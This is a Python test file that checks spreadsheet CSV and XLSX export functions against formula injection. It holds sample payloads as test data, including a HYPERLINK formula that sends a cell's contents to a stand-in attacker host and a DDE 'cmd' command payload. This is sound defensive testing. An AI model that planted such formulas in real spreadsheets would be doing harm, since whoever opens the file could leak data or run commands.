"""OWASP's CSV-injection rule, in the one function every export writes through."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from bounty.spreadsheets import safe_cell, to_csv, to_xlsx

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&B2,"附件")', "=cmd|' /C calc'!A0",
           "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", ATTACKS)
def test_a_cell_that_could_run_is_quoted(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["模温控制", "", "a=b", " =1", 12, -5, 3.5, None])
def test_other_cells_are_left_alone(value):
    assert safe_cell(value) == value


def test_csv_cells_never_start_a_formula():
    data = to_csv(["标题"] + ATTACKS[:1], [ATTACKS, [1, -2, "正常"]])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8").lstrip("\ufeff"))))
    cells = [c for row in rows for c in row]
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells if c != "-2")
    assert rows[1][0] == "'" + ATTACKS[0]


def test_xlsx_stores_text_as_strings_never_formulas():
    workbook = load_workbook(io.BytesIO(to_xlsx("审核记录", ["标题", "意见"],
                                               [ATTACKS, ["控制\x0b字符", 7]])))
    cells = [c for row in workbook.active.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert workbook.active["A2"].value == "'" + ATTACKS[0]
    assert workbook.active["A3"].value == "控制字符" and workbook.active["B3"].value == 7
